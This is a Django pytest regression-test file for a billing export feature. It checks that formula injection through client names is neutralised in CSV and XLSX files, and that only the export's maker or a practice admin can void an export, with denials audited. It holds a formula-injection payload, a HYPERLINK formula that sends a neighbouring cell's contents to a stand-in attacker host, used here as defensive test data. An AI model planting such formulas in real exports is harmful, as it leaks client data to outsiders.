"""Issue 13, attacks 5 and 9, as regression tests.

5. A client named ``=HYPERLINK(...)`` came out as a live formula in the billing
   CSV and as a formula cell in the XLSX.
9. Any biller could void any other biller's export (the maker's files then
   answered 410).
"""

from __future__ import annotations

import csv
import io
from datetime import time

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from billing.models import BillingExport, ExportStatus
from billing.selectors import last_month
from clients import services as client_services
from practice.documents.models import DocumentJob, JobStatus
from practice.models import AuditAction, AuditEvent
from practice.roles import Role
from practice.spreadsheets import csv_bytes, safe_cell, xlsx_bytes
from tests.documents.helpers import job_bytes
from tests.documents.signing import sign_progress_note
from tests.factories import ClientFactory, ProgressNoteFactory, UserFactory

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&C2,"Open")'


@pytest.fixture
def period():
    return last_month()


@pytest.fixture
def hostile_session(period, alice, ada):
    """A signed, billable session of a client whose name is a formula."""
    client = ClientFactory(legal_first_name="@SUM(1+1)", legal_last_name=PAYLOAD, mrn="+1-555")
    client_services.care_team_add(client=client, clinician=alice, actor=ada, role="primary")
    note = ProgressNoteFactory(
        client=client,
        author=alice,
        service_date=period[0],
        start_time=time(10, 0),
        end_time=time(10, 53),
    )
    return sign_progress_note(note)


def _export(http, period, capture):
    start, end = period
    with capture(execute=True):
        http.post(
            reverse("billing:export_start"), {"start": start.isoformat(), "end": end.isoformat()}
        )
    return DocumentJob.objects.filter(requested_by_id=http.session["_auth_user_id"]).latest("id")


# -- attack 5: formula injection ------------------------------------------------


@pytest.mark.parametrize(
    "value", [PAYLOAD, "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "=1", "-", "@"]
)
def test_a_text_cell_that_starts_a_formula_is_made_inert(value):
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[value]]).decode(), newline="")))
    assert rows[1] == ["'" + value]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("S", ["a"], [[value]])])))["S"]
    assert sheet["A2"].data_type != "f"
    assert sheet["A2"].value == "'" + value


@pytest.mark.parametrize("value", ["Smith", "O'Brien", "a=b", "10:00", 42, 1.5, None])
def test_ordinary_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_the_billing_files_hold_no_formula(
    bill, hostile_session, period, login, django_capture_on_commit_callbacks
):
    job = _export(login(bill), period, django_capture_on_commit_callbacks)
    assert job.status == JobStatus.DONE, job.error
    for key in ("sessions-csv", "contacts-csv"):
        text = job_bytes(job, key).decode("utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
    sessions = list(csv.DictReader(io.StringIO(job_bytes(job, "sessions-csv").decode())))
    (row,) = [r for r in sessions if r["row_type"] == "session"]
    assert row["client_name"] == f"'{PAYLOAD}, @SUM(1+1)"
    assert row["client_mrn"] == "'+1-555"
    book = load_workbook(io.BytesIO(job_bytes(job, "xlsx")))
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    names = [c.value for c in book["Sessions"]["D"]]
    assert f"'{PAYLOAD}, @SUM(1+1)" in names


# -- attack 9: voiding someone else's export ------------------------------------


@pytest.fixture
def bella(db):
    return UserFactory(username="bella", role=Role.BILLER)


def test_only_the_maker_or_a_practice_admin_voids_an_export(
    bill, bella, ada, hostile_session, period, login, django_capture_on_commit_callbacks
):
    maker = login(bill)
    job = _export(maker, period, django_capture_on_commit_callbacks)
    export = BillingExport.objects.get(job_uuid=job.uuid)
    url = reverse("billing:export_void", args=[export.uuid])

    # Another biller sees the export, has no void form, and is refused (audited).
    other = login(bella)
    page = other.get(reverse("billing:export", args=[export.uuid])).content.decode()
    assert "Void this export" not in page
    response = other.post(url, {"reason": "I felt like it"})
    assert response.status_code == 403
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE and export.void_reason == ""
    assert AuditEvent.objects.filter(
        action=AuditAction.ACCESS_DENIED, user=bella, object_id=str(export.uuid)
    ).exists()
    # The maker's files are still served.
    download = reverse("documents:download", args=[job.uuid, "sessions-csv"])
    assert maker.get(download).status_code == 200

    # A practice admin voids it, with a reason that is recorded and audited.
    admin = login(ada)
    assert (
        "Void this export"
        in admin.get(reverse("billing:export", args=[export.uuid])).content.decode()
    )
    assert admin.post(url, {"reason": ""}).status_code == 400
    assert admin.post(url, {"reason": "Sent to the wrong payer"}).status_code == 302
    export.refresh_from_db()
    assert export.status == ExportStatus.VOIDED
    assert export.voided_by == ada and export.void_reason == "Sent to the wrong payer"
    event = AuditEvent.objects.get(
        action=AuditAction.UPDATE, user=ada, object_id=str(export.uuid), detail__change="void"
    )
    assert event.detail["reason"] == "Sent to the wrong payer"
    assert event.detail["made_by"] == "bill"
    # The admin still has no billing pages of their own.
    assert admin.get(reverse("billing:home")).status_code == 403


def test_the_maker_voids_their_own_export(
    bill, hostile_session, period, login, django_capture_on_commit_callbacks
):
    maker = login(bill)
    job = _export(maker, period, django_capture_on_commit_callbacks)
    export = BillingExport.objects.get(job_uuid=job.uuid)
    response = maker.post(
        reverse("billing:export_void", args=[export.uuid]), {"reason": "Wrong period"}
    )
    assert response.status_code == 302
    export.refresh_from_db()
    assert export.status == ExportStatus.VOIDED and export.voided_by == bill


def test_the_void_service_itself_refuses_another_biller(
    bill, bella, hostile_session, period, login, django_capture_on_commit_callbacks
):
    from billing import services

    job = _export(login(bill), period, django_capture_on_commit_callbacks)
    export = BillingExport.objects.get(job_uuid=job.uuid)
    with pytest.raises(services.BillingRefused):
        services.billing_export_void(export=export, actor=bella, reason="x")
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
